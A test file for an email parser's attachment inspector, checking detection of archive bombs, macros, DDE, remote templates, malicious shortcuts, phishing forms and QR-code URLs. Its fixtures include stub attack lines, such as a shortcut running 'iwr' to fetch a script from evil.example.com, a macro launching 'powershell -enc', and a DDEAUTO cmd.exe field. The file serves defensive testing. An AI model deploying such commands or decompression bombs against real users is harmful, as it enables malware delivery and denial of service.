import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { deflateSync, gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { beforeAll, describe, expect, it } from 'vitest'
import { prepareZXingModule, writeBarcode } from 'zxing-wasm/writer'
import { corpusFiles } from '../../../test/rig/corpus.ts'
import { createParser } from '../index.ts'
import { parseMail } from '../parse.ts'
import { fingerprintDistance } from '../words/fingerprints.ts'
import { ole, png, tar, vba, zip } from './builders.fixture.ts'
import { Budget, codesOf, drawnInText, fromRows, lookInside } from './index.ts'

async function look(name: string, bytes: Buffer, type = '') {
  const budget = new Budget([])
  return {
    inside: await lookInside(name, type, bytes, budget),
    urls: budget.urls.map((u) => u.url),
    places: budget.urls.map((u) => u.place),
    defects: budget.defects,
  }
}

const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300, 7)])
const text = (value: string) => Buffer.from(value)
const sha = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex')

const URL_IN_CODE = 'https://evil.example.com/qr?x=1'
let rows: boolean[][] = []
beforeAll(async () => {
  const binary = readFileSync(createRequire(import.meta.url).resolve('zxing-wasm/writer/zxing_writer.wasm'))
  prepareZXingModule({
    overrides: { wasmBinary: binary.buffer.slice(binary.byteOffset, binary.byteOffset + binary.length) },
  })
  const made = await writeBarcode(URL_IN_CODE, { format: 'QRCode', scale: 1 })
  rows = matrix(made.svg)
})

describe('archives', () => {
  it('lists a ZIP with real types, and what is locked', async () => {
    const { inside, defects } = await look(
      'a.zip',
      zip([
        { name: 'docs/readme.txt', data: text('hello') },
        { name: 'invoice.pdf', data: EXE },
        { name: 'x.js', data: text('1'), encrypted: true },
      ]),
    )
    expect(inside?.archive).toEqual({
      kind: 'zip',
      entries: [
        { name: 'docs/readme.txt', type: null, size: 5, encrypted: false, sha256: sha(text('hello')) },
        { name: 'invoice.pdf', type: 'application/x-msdownload', size: 302, encrypted: false, sha256: sha(EXE) },
        { name: 'x.js', type: null, size: 1, encrypted: true },
      ],
      count: 3,
      encrypted: true,
      depth: 1,
      stopped: null,
    })
    expect(defects).toEqual([])
  })

  it('looks into archives in archives, and tells of what lies there', async () => {
    const page = zip([{ name: 'open.html', data: text('<script>location.href="https://evil.example.com/x"</script>') }])
    const { inside, urls } = await look('a.tgz', gzipSync(tar([{ name: 'inner.zip', data: page }])))
    expect(inside?.archive?.depth).toBe(3)
    expect(inside?.archive?.entries.at(-1)?.name).toBe('a.tar/inner.zip/open.html')
    expect(inside?.page?.redirects).toBe(true)
    expect(urls).toEqual(['https://evil.example.com/x'])
  })

  it('names what a file in an archive holds by its hash, wherever it lies (lists #71)', async () => {
    const hashes = async (name: string, bytes: Buffer) =>
      (await look(name, bytes)).inside?.archive?.entries.map((e) => e.sha256)
    const inner = zip([{ name: 'deep/run.exe', data: EXE }])
    expect(await hashes('a.tar.gz', gzipSync(tar([{ name: 'b.zip', data: inner }])))).toEqual([
      sha(tar([{ name: 'b.zip', data: inner }])),
      sha(inner),
      sha(EXE),
    ])
    // Locked, empty and cut off: nothing is known of what they hold.
    const odd = zip([
      { name: 'locked.exe', data: EXE, encrypted: true },
      { name: 'empty.txt', data: text('') },
      { name: 'short.exe', data: EXE, claims: 900 },
    ])
    expect(await hashes('odd.zip', odd)).toEqual([undefined, undefined, undefined])
    const many = zip(Array.from({ length: 250 }, (_, i) => ({ name: `${i}.txt`, data: text(`file ${i}`) })))
    expect((await hashes('many.zip', many))?.filter((h) => h !== undefined)).toHaveLength(100)
  })

  it('reads the names of 7-Zip, whose list is packed itself', async () => {
    // Made with the reference encoder: two files and forty pictures; one file with the mark of AES.
    const names = Buffer.from(
      'N3q8ryccAARLNoN0qAAAAAAAAAAcAAAAAAAAABhYSh0AAIGBFcQpNbt1vi3BRREWlrrn4BIh3uCaEI0j0IJmWnGS5nvBwKfUpghnoFujrLA+DVbMxoX4jNxv8vXwmYxxPxm3bIsApWT+NCShwxV+4iM+CXTHmbFEW6iiAqrKyf6tX5qDlr5B69t/73Bfx93V+pe7wq+4F/dRd9p8pTLPcsvP99wpcZaT1PskBTH1bxbXaYrrDkPYcgwyv3of2zScyhcH//4rgaAXBgABCYCoAAcLAQABIwMBAQVdAAABAAyG2QAA',
      'base64',
    )
    const found = (await look('a.7z', names)).inside?.archive
    expect(found).toMatchObject({
      kind: '7z',
      count: 42,
      encrypted: false,
      entries: expect.arrayContaining([
        expect.objectContaining({ name: 'rechnung.pdf.js' }),
        expect.objectContaining({ name: 'docs/readme.txt' }),
      ]),
    })
    expect(found?.entries.at(-1)?.name).toBe('images/photo_039.jpg')
    const locked = Buffer.from(
      'N3q8ryccAAQkQ9/DMAAAAAAAAAAaAAAAAAAAAM3z6VQAAIEzHgxuRS2DQLXi8rVbO6J4kjc//1/fqtxoFC8xnzqFz0zp5qI9AJz///MKQAAXBgABCTAABwsBAAEjAwEBBV0AAAEADC0AAA==',
      'base64',
    )
    expect((await look('a.7z', locked)).inside?.archive).toMatchObject({
      encrypted: true,
      entries: [{ name: 'rechnung.pdf.js' }],
    })
  })

  it('reads the names of RAR 4, RAR 5, CAB and ISO', async () => {
    const rar4 = Buffer.concat([
      text('Rar!\x1a\x07\0'),
      rar4Block(0x73, 0, Buffer.alloc(6)),
      rar4File('setup.exe', true),
    ])
    expect((await look('a.rar', rar4)).inside?.archive).toMatchObject({
      kind: 'rar',
      encrypted: true,
      entries: [{ name: 'setup.exe' }],
    })
    const rar5 = Buffer.concat([
      text('Rar!\x1a\x07\x01\0'),
      rar5Block(Buffer.from([1, 0, 0])),
      rar5Block(rar5File('run.js')),
    ])
    expect((await look('a.rar', rar5)).inside?.archive).toMatchObject({
      encrypted: false,
      entries: [{ name: 'run.js', size: 9 }],
    })
    const locked = Buffer.concat([text('Rar!\x1a\x07\x01\0'), rar5Block(Buffer.from([4, 0, 0]))])
    expect((await look('a.rar', locked)).inside?.archive).toMatchObject({ encrypted: true, entries: [] })
    expect((await look('a.img', iso('EVIL.LNK;1'))).inside?.archive).toMatchObject({
      kind: 'iso',
      entries: [{ name: 'EVIL.LNK' }],
    })
  })
})

function rar4Block(type: number, flags: number, data: Buffer): Buffer {
  const head = Buffer.alloc(7)
  head[2] = type
  head.writeUInt16LE(flags, 3)
  head.writeUInt16LE(7 + data.length, 5)
  return Buffer.concat([head, data])
}
function rar4File(name: string, locked: boolean): Buffer {
  const data = Buffer.alloc(25 + name.length)
  data.writeUInt32LE(0, 0)
  data.writeUInt32LE(9, 4)
  data.writeUInt16LE(name.length, 19)
  data.write(name, 25)
  return rar4Block(0x74, 0x8000 | (locked ? 4 : 0), data)
}
const rar5Block = (header: Buffer) => Buffer.concat([Buffer.alloc(4), Buffer.from([header.length]), header])
const rar5File = (name: string) => Buffer.concat([Buffer.from([2, 0, 0, 9, 0, 0, 0, name.length]), text(name)])
function iso(name: string): Buffer {
  const image = Buffer.alloc(20 * 2_048)
  image[16 * 2_048] = 1
  image.write('CD001', 16 * 2_048 + 1)
  image.writeUInt32LE(18, 16 * 2_048 + 156 + 2)
  image.writeUInt32LE(2_048, 16 * 2_048 + 156 + 10)
  image[17 * 2_048] = 255
  const record = 18 * 2_048
  image[record] = 34 + name.length
  image.writeUInt32LE(19, record + 2)
  image.writeUInt32LE(5, record + 10)
  image[record + 32] = name.length
  image.write(name, record + 33)
  return image
}

describe('archives that lie are marked, and cost nothing', () => {
  const zeros = Buffer.alloc(20 * 1024 * 1024)
  const cases: [string, () => Buffer, RegExp][] = [
    ['a ratio of 1,000', () => zip([{ name: 'a', data: zeros }]), /inflate more than 100 times/],
    ['a claim of 4 GB', () => zip([{ name: 'a', data: text('x'), claims: 0xfffffff0 }]), /more than 100 MB/],
    [
      'a ZIP64 claim of 2^60',
      () => zip([{ name: 'a', data: text('x'), claims: 2 ** 60, zip64: true }]),
      /more than 100 MB/,
    ],
    ['a small claim over 20 MB', () => zip([{ name: 'a.html', data: zeros, claims: 10 }]), /more than it says/],
    [
      '10,001 entries',
      () => zip(Array.from({ length: 10_001 }, (_, i) => ({ name: `${i}`, data: Buffer.alloc(0) }))),
      /more than 10000 entries/,
    ],
    [
      'entries that share their bytes',
      () =>
        zip([
          { name: 'a', data: Buffer.alloc(9_000, 'ab') },
          ...Array.from({ length: 50 }, (_, i) => ({ name: `${i}`, data: Buffer.alloc(9_000, 'ab'), at: 0 })),
        ]),
      /overlap/,
    ],
    [
      'archives five deep',
      () => {
        let inner = zip([{ name: 'a.txt', data: text('x') }])
        for (let i = 0; i < 5; i++) inner = zip([{ name: 'in.zip', data: inner }])
        return inner
      },
      /more than 3 deep/,
    ],
    [
      'sixteen times sixteen times sixteen',
      () => {
        let inner = zip([{ name: 'a', data: Buffer.alloc(1024 * 1024) }])
        for (let i = 0; i < 4; i++)
          inner = zip(Array.from({ length: 16 }, (_, n) => ({ name: `${n}.zip`, data: inner })))
        return inner
      },
      /deep|MB inflated|times/,
    ],
    ['gzip over 60 MB of zeros', () => gzipSync(Buffer.alloc(60 * 1024 * 1024)), /more than may be/],
    ['gzip in gzip in gzip in gzip', () => gzipSync(gzipSync(gzipSync(gzipSync(text('x'))))), /deep/],
  ]
  it.each(cases)('%s', async (_, make, why) => {
    const bytes = make()
    const began = process.cpuUsage()
    const { defects, inside } = await look('bomb.zip', bytes)
    const { user, system } = process.cpuUsage(began)
    expect(defects.join()).toMatch(why)
    expect(inside?.archive?.stopped ?? inside?.notes?.join()).toMatch(why)
    expect((user + system) / 1_000, 'milliseconds').toBeLessThan(20_000)
  })

  it('an archive that holds itself ends at the third level', async () => {
    // The quine's essence: what it inflates to is an archive again, for ever.
    let quine = zip([{ name: 'r.zip', data: text('') }])
    for (let i = 0; i < 20; i++) quine = zip([{ name: 'r.zip', data: quine }])
    expect((await look('r.zip', quine)).inside?.archive).toMatchObject({
      depth: 4,
      stopped: 'archives more than 3 deep',
    })
  })

  it('a document that is a bomb', async () => {
    const { defects } = await look(
      'a.docx',
      zip([
        { name: '[Content_Types].xml', data: text('<x/>') },
        { name: 'word/document.xml', data: zeros },
      ]),
    )
    expect(defects.join()).toMatch(/100 times/)
  })

  it('a PDF whose streams inflate without end', async () => {
    const stream = deflateSync(Buffer.alloc(30 * 1024 * 1024))
    const pdf = Buffer.concat([
      text('%PDF-1.4\n'),
      ...Array.from({ length: 200 }, () =>
        Buffer.concat([text('1 0 obj<</Filter/FlateDecode>>stream\n'), stream, text('\nendstream endobj\n')]),
      ),
    ])
    const began = process.cpuUsage()
    const { defects, inside } = await look('a.pdf', pdf)
    expect(defects.join() + inside?.notes?.join()).toMatch(/inflated|may/)
    expect(process.cpuUsage(began).user / 1_000).toBeLessThan(30_000)
  })
})

describe('documents', () => {
  it('macros that run by themselves, in new documents', async () => {
    const project = ole({
      'VBA/dir': text('x'),
      'VBA/ThisDocument': vba('Sub AutoOpen()\r\nShell "powershell -enc x"\r\nEnd Sub'),
    })
    const { inside } = await look(
      'a.docm',
      zip([
        { name: '[Content_Types].xml', data: text('<x/>') },
        { name: 'word/vbaProject.bin', data: project },
      ]),
    )
    expect(inside?.office).toMatchObject({
      macros: true,
      suspicious: ['autoopen', 'powershell', 'shell'],
      encrypted: false,
    })
    expect(inside?.archive).toBeUndefined()
  })
  it('…and in old ones', async () => {
    const doc = ole({
      WordDocument: Buffer.alloc(5_000),
      'Macros/VBA/Module1': vba('Sub Document_Open()\r\nCreateObject("WScript.Shell")\r\nEnd Sub'),
      'Macros/VBA/dir': text('x'),
    })
    expect((await look('a.doc', doc)).inside?.office).toMatchObject({
      macros: true,
      suspicious: ['createobject', 'document_open', 'wscript.shell'],
    })
  })
  it('a template from elsewhere, DDE, a password', async () => {
    const rels =
      '<Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example.com/t.dotm" TargetMode="External"/>'
    const body = '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe </w:instrText>'
    const { inside, urls } = await look(
      'a.docx',
      zip([
        { name: '[Content_Types].xml', data: text('<x/>') },
        { name: 'word/_rels/settings.xml.rels', data: text(rels) },
        { name: 'word/document.xml', data: text(body) },
      ]),
    )
    expect(inside?.office).toMatchObject({
      macros: false,
      dde: true,
      external: ['attachedTemplate: https://evil.example.com/t.dotm'],
    })
    expect(urls).toEqual(['https://evil.example.com/t.dotm'])
    expect(
      (await look('a.xlsx', ole({ EncryptedPackage: text('x'), EncryptionInfo: text('y') }))).inside?.office?.encrypted,
    ).toBe(true)
  })
  it('an old workbook with a macro sheet', async () => {
    const sheet = Buffer.from([0x85, 0, 8, 0, 0, 0, 0, 0, 0, 1, 0, 0])
    expect(
      (await look('a.xls', ole({ Workbook: Buffer.concat([sheet, Buffer.from([0x0a, 0, 0, 0])]) }))).inside?.office,
    ).toMatchObject({ macros: true })
  })
})

describe('pages in files', () => {
  it('a file put together by script', async () => {
    const { inside, urls } = await look(
      'open.htm',
      text(
        `<html><body onload="go()"><script>var b=atob("${'QUJD'.repeat(200)}");var u=URL.createObjectURL(new Blob([b]));a.download="x.zip";var h='https:\\/\\/c2.example.com/p';var v="victim@example.org";var f="ftp://c3.example.com/p"</script>`,
      ),
    )
    expect(inside?.page).toMatchObject({
      scripts: 1,
      handlers: 1,
      builds: ['atob', 'Blob', 'createObjectURL', 'download'],
      encoded: 800,
      addresses: ['victim@example.org'],
    })
    expect(urls).toEqual(['https://c2.example.com/p', 'ftp://c3.example.com/p'])
  })
  it('a sign-in form, and an SVG with script', async () => {
    expect(
      (
        await look(
          'a.bin',
          text('<!doctype html><form action="https://evil.example.com/" method=post><input type=password></form>'),
        )
      ).inside?.page,
    ).toMatchObject({ passwords: 1, forms: [{ host: 'evil.example.com' }] })
    expect(
      await look(
        'a.svg',
        text('<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://evil.example.com/"</script></svg>'),
      ),
    ).toMatchObject({ inside: { page: { scripts: 1, redirects: true } }, urls: ['https://evil.example.com/'] })
  })
})

describe('PDF', () => {
  it('links, scripts and actions, plain, hidden in names and packed', async () => {
    const packed = deflateSync(text('<</URI(https://b.example.com/y)>>'))
    const pdf = Buffer.concat([
      text(
        '%PDF-1.4\n1 0 obj<</Type/Page/A<</URI(https://a.example.com/x\\051)>>>>endobj\n2 0 obj<</J#61vaScript 3 0 R/OpenAction 4 0 R>>endobj\n',
      ),
      text('5 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n'),
      packed,
      text(
        '\nendstream endobj\n6 0 obj<</Subtype/Image>>stream\nTj\nendstream\n7 0 obj<</Length 9>>stream\nBT (Hello) Tj ET\nendstream',
      ),
    ])
    const { inside, urls } = await look('a.pdf', pdf)
    expect(inside?.pdf).toEqual({
      pages: 1,
      links: 2,
      scripts: true,
      actions: ['OpenAction'],
      images: 1,
      texts: 1,
      encrypted: false,
    })
    expect(urls).toEqual(['https://a.example.com/x)', 'https://b.example.com/y'])
  })
})

describe('other kinds', () => {
  it('an invitation', async () => {
    const { inside, urls } = await look(
      'invite.ics',
      text(
        'BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nORGANIZER;CN="Boss: big":mailto:Boss@Evil.example\r\nSUMMARY:Pay\\, now\r\nDESCRIPTION:see https://evil.exam\r\n ple.com/x\\nbye\r\nEND:VEVENT\r\nEND:VCALENDAR',
      ),
    )
    expect(inside?.calendar).toEqual({
      method: 'REQUEST',
      organiser: 'boss@evil.example',
      summary: 'Pay, now',
      events: 1,
      alarms: 0,
    })
    expect(urls).toEqual(['https://evil.example.com/x'])
  })
  it('a shortcut, an Internet shortcut, RTF with an object, OneNote with a script', async () => {
    const link = Buffer.alloc(76)
    link.writeUInt32LE(76, 0)
    Buffer.from('0114020000000000c000000000000046', 'hex').copy(link, 4)
    link.writeUInt32LE(0x20 | 0x80, 20)
    const args = '-w hidden iwr https://evil.example.com/a.ps1 ftp://evil.example.com/b'
    const length = Buffer.alloc(2)
    length.writeUInt16LE(args.length)
    expect(await look('a.lnk', Buffer.concat([link, length, Buffer.from(args, 'utf16le')]))).toMatchObject({
      inside: { notes: [`starts ${args}`] },
      urls: ['https://evil.example.com/a.ps1', 'ftp://evil.example.com/b'],
    })
    expect(await look('a.url', text('[InternetShortcut]\r\nURL=https://evil.example.com/\r\n'))).toMatchObject({
      inside: { notes: ['opens https://evil.example.com/'] },
    })
    expect(
      (await look('a.doc', text('{\\rtf1{\\object\\objupdate{\\*\\objdata 4571756174696f6e2e33}}'))).inside?.notes,
    ).toEqual(['embeds an object', 'updates its object when opened', 'uses the equation editor'])
    const script = text('WScript.CreateObject("x")')
    const size = Buffer.alloc(8)
    size.writeUInt32LE(script.length)
    const note = Buffer.concat([
      Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'),
      Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'),
      size,
      Buffer.alloc(12),
      script,
    ])
    expect((await look('a.one', note)).inside?.notes).toEqual(['embeds a script'])
  })
  it('a .msg with an address and a file', async () => {
    const msg = ole({
      '__properties_version1.0': text('x'),
      '__substg1.0_0037001F': Buffer.from('Invoice\0', 'utf16le'),
      '__substg1.0_1000001F': Buffer.from('see https://evil.example.com/x now', 'utf16le'),
      '__attach_version1.0_#00000000/__substg1.0_3707001F': Buffer.from('scan.html', 'utf16le'),
      '__attach_version1.0_#00000000/__substg1.0_37010102': text('<html><form><input type=password></form>'),
    })
    const { inside, urls } = await look('a.msg', msg)
    expect(inside?.message?.subject.startsWith('Invoice')).toBe(true)
    expect(inside?.message?.files[0]?.startsWith('scan.html')).toBe(true)
    expect(inside?.page?.passwords).toBe(1)
    expect(urls).toEqual(['https://evil.example.com/x'])
  })
  it.skipIf(corpusFiles('outlook-msg').length === 0)('all .msg and .ics of the corpus', async () => {
    for (const file of corpusFiles('outlook-msg').filter((f) => f.endsWith('.msg')))
      expect((await look(file, readFileSync(file))).inside?.message, file).toBeDefined()
    for (const file of corpusFiles('calendar').filter((f) => f.endsWith('.ics')))
      expect((await look(file, readFileSync(file))).inside?.calendar, file).toBeDefined()
  })
})

describe('pictures and codes', () => {
  const drawn = () => fromRows(rows, 4, 4)
  it('a code in a PNG, alone or in an archive', async () => {
    const { width, height, grey } = drawn()
    const picture = png(width, height, (x, y) => grey[y * width + x] ?? 255)
    expect(await look('a.png', picture)).toMatchObject({
      inside: { image: { width, height, codes: [URL_IN_CODE] } },
      urls: [URL_IN_CODE],
      places: ['qr'],
    })
    expect((await look('a.zip', zip([{ name: 'p.html', data: text('<html>x') }]))).urls).toEqual([])
  })
  it('a code in a PDF, as plain pixels', async () => {
    const { width, height, grey } = drawn()
    const head = `5 0 obj<</Subtype/Image/Width ${width}/Height ${height}/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode>>stream\n`
    const pdf = Buffer.concat([text('%PDF-1.4\n'), text(head), deflateSync(grey), text('\nendstream endobj')])
    expect(await look('a.pdf', pdf)).toMatchObject({
      inside: { pdf: { images: 1 }, image: { codes: [URL_IN_CODE] } },
      places: ['qr'],
    })
  })
  it('a code drawn with blocks', async () => {
    const half: string[] = []
    for (let y = 0; y < rows.length; y += 2)
      half.push(
        (rows[y] ?? []).map((top, x) => (top ? (rows[y + 1]?.[x] ? '█' : '▀') : rows[y + 1]?.[x] ? '▄' : ' ')).join(''),
      )
    const picture = drawnInText(`Scan this:\n${half.join('\n')}\nthanks`)
    const budget = new Budget([])
    expect(picture === null ? [] : await codesOf(picture, budget)).toEqual([URL_IN_CODE])
    expect(drawnInText('nothing here')).toBeNull()
  })
  it('a picture keeps its hash when it is scaled, and another has another', async () => {
    const wave = (w: number, h: number, turn: number) =>
      png(w, h, (x, y) => Math.floor(127 + 120 * Math.sin((x / w) * 9 + turn) * Math.cos((y / h) * 5 + turn)))
    const hash = async (bytes: Buffer) => (await look('a.png', bytes)).inside?.image?.hash
    const [small, large, other] = [
      await hash(wave(120, 80, 0)),
      await hash(wave(360, 240, 0)),
      await hash(wave(120, 80, 2)),
    ]
    expect(fingerprintDistance(small ?? '', large ?? '')).toBeLessThanOrEqual(6)
    expect(fingerprintDistance(small ?? '', other ?? '')).toBeGreaterThan(12)
    expect(await hash(png(100, 100, () => 255))).toBeNull()
  })
  it.each([
    ['PNG', png(1, 1, () => 0, { width: 100_000, height: 100_000 })],
    ['GIF', Buffer.concat([text('GIF89a'), Buffer.from([0xff, 0xff, 0xff, 0xff]), Buffer.alloc(40)])],
    [
      'JPEG',
      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xc0, 0, 17, 8, 0xff, 0xff, 0xff, 0xff, 3]), Buffer.alloc(40)]),
    ],
    [
      'BMP',
      (() => {
        const b = Buffer.alloc(60)
        b.write('BM')
        b.writeInt32LE(100_000, 18)
        b.writeInt32LE(100_000, 22)
        return b
      })(),
    ],
  ])('a %s of 65,535 × 65,535 and more is refused by its header', async (_, bytes) => {
    const { inside, defects } = await look('bomb', bytes)
    expect(inside?.image).toMatchObject({ hash: null, codes: [] })
    expect(defects.join()).toMatch(/not looked at/)
  })
  it('picture data that inflates to more than the picture is not decoded', async () => {
    const bomb = png(100, 100, () => 0, { width: 100, height: 100, data: deflateSync(Buffer.alloc(80 * 1024 * 1024)) })
    const began = process.cpuUsage()
    expect((await look('a.png', bomb)).inside?.image?.hash).toBeNull()
    expect(process.cpuUsage(began).user / 1_000).toBeLessThan(20_000)
  })
  it('a JPEG of a thousand scans is refused', async () => {
    const scan = Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 0, 63, 0, 1, 2, 3])
    const jpeg = Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xc2, 0, 11, 8, 3, 0, 3, 0, 1, 1, 0x11, 0]),
      ...Array.from({ length: 1_000 }, () => scan),
    ])
    expect((await look('a.jpg', jpeg)).defects.join()).toMatch(/not looked at/)
  })
})

/** Dark modules of the library's drawing. */
function matrix(svg: string): boolean[][] {
  const size = Number(/width="(\d+)"/.exec(svg)?.[1])
  const out = Array.from({ length: size }, () => Array.from({ length: size }, () => false))
  for (const [, x, y, w, h] of svg.matchAll(/M(\d+)[ ,](\d+)h(\d+)v(\d+)/g))
    for (let dy = 0; dy < Number(h); dy++)
      for (let dx = 0; dx < Number(w); dx++) {
        const row = out[Number(y) + dy]
        if (row !== undefined) row[Number(x) + dx] = true
      }
  return out
}

describe('any bytes', () => {
  const seeds = [
    () =>
      zip([
        { name: '[Content_Types].xml', data: text('<x/>') },
        { name: 'word/vbaProject.bin', data: ole({ 'VBA/M': vba('Sub AutoOpen()') }) },
      ]),
    () =>
      ole({
        '__properties_version1.0': text('x'),
        '__substg1.0_0037001F': text('a'),
        '__attach_version1.0_#0/__substg1.0_37010102': text('y'),
      }),
    () => tar([{ name: 'a', data: text('x') }]),
    () => png(40, 40, (x) => x * 5),
    () => iso('A.EXE;1'),
    () =>
      Buffer.from(
        'N3q8ryccAAQkQ9/DMAAAAAAAAAAaAAAAAAAAAM3z6VQAAIEzHgxuRS2DQLXi8rVbO6J4kjc//1/fqtxoFC8xnzqFz0zp5qI9AJz///MKQAAXBgABCTAABwsBAAEjAwEBBV0AAAEADC0AAA==',
        'base64',
      ),
    () => Buffer.concat([text('Rar!\x1a\x07\x01\0'), rar5Block(rar5File('run.js'))]),
    () => text('%PDF-1.4 1 0 obj<</Filter/FlateDecode>>stream\nxx\nendstream'),
  ].map((make) => make())
  it('broken anywhere, read in bounded time and never thrown at', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...seeds),
        fc.array(fc.tuple(fc.nat(), fc.nat(255)), { maxLength: 30 }),
        fc.nat(),
        async (seed, edits, end) => {
          const bytes = Buffer.from(seed.subarray(0, edits.length % 3 === 0 ? (end % seed.length) + 1 : seed.length))
          for (const [at, value] of edits) bytes[at % bytes.length] = value
          await look('any.bin', bytes)
        },
      ),
      { numRuns: 400 },
    )
  })
})

describe('in the guarded process', () => {
  it('a code in a picture of a message becomes an address that is marked as such (explorer #39)', async () => {
    const made = await writeBarcode('https://evil.example.com/in-child', { format: 'QRCode', scale: 1 })
    const { width, height, grey } = fromRows(matrix(made.svg), 4, 4)
    const picture = png(width, height, (x, y) => grey[y * width + x] ?? 255).toString('base64')
    const parser = createParser({ workers: 1 })
    try {
      const send = (html: string) =>
        parser.parse(Buffer.from(`From: a@b.example\r\nContent-Type: text/html\r\n\r\n${html}`), {
          mailFrom: null,
          clientIp: null,
          helo: null,
        })
      const { mail } = await send(`<p>Scan it</p><img src="data:image/png;base64,${picture}">`)
      expect(mail.urls).toEqual([expect.objectContaining({ url: 'https://evil.example.com/in-child', place: 'qr' })])
      const cell = (dark: boolean) => `<td width=4 height=4 bgcolor="${dark ? '#000' : '#fff'}"></td>`
      const table = `<table>${matrix(made.svg)
        .map((row) => `<tr>${row.map(cell).join('')}</tr>`)
        .join('')}</table>`
      expect((await send(table)).mail.urls.map((u) => u.place)).toEqual(['qr'])
    } finally {
      await parser.close()
    }
  })
})

describe('an Outlook file in place of a message', () => {
  const SETTINGS = { maxParts: 1_000, maxDepth: 50, maxHeaderBytes: 1024 * 1024, trustedAuthserv: [''], resolver: null }
  const parse = (raw: Buffer) => parseMail(raw, { mailFrom: null, clientIp: null, helo: null }, SETTINGS)
  const wide = (value: string) => Buffer.from(value, 'utf16le')
  it('is read as the message that it was', async () => {
    const { kind, mail } = await parse(
      ole({
        '__properties_version1.0': text('x'),
        '__substg1.0_0037001F': wide('Grüße'),
        '__substg1.0_5D01001F': wide('eve@evil.example'),
        '__substg1.0_0C1A001F': wide('Eve'),
        '__substg1.0_10130102': text('<p>see <a href="https://evil.example.com/x">this</a></p>'),
        '__attach_version1.0_#00000000/__substg1.0_3707001F': wide('scan.html'),
        '__attach_version1.0_#00000000/__substg1.0_37010102': text('<html><form><input type=password></form>'),
      }),
    )
    expect(kind).toBe('parsed')
    expect(mail).toMatchObject({
      subject: 'Grüße',
      hasHtml: true,
      from: [{ name: 'Eve', address: 'eve@evil.example' }],
    })
    expect(mail.urls.map((u) => u.url)).toContain('https://evil.example.com/x')
    expect(mail.attachments[0]).toMatchObject({ name: 'scan.html', inside: { page: { passwords: 1 } } })
    expect(mail.defects).toContain('an Outlook file, not the message as it was sent')
  })
  const all = corpusFiles('outlook-msg').filter((f) => f.endsWith('.msg'))
  it.skipIf(all.length === 0)('all of the corpus, as uploads and as attachments', async () => {
    let from = 0
    for (const path of all) {
      const raw = readFileSync(path)
      const upload = await parse(raw)
      expect(upload.kind, path).toBe('parsed')
      if (upload.mail.from.length > 0) from++
      const attached = await parse(
        Buffer.from(
          `From: a@b.example\r\nContent-Type: application/vnd.ms-outlook; name=a.msg\r\nContent-Transfer-Encoding: base64\r\n\r\n${raw.toString('base64')}`,
        ),
      )
      expect(attached.mail.attachments[0]?.inside?.message, path).toBeDefined()
    }
    expect(from).toBeGreaterThan(all.length / 2)
  })
})
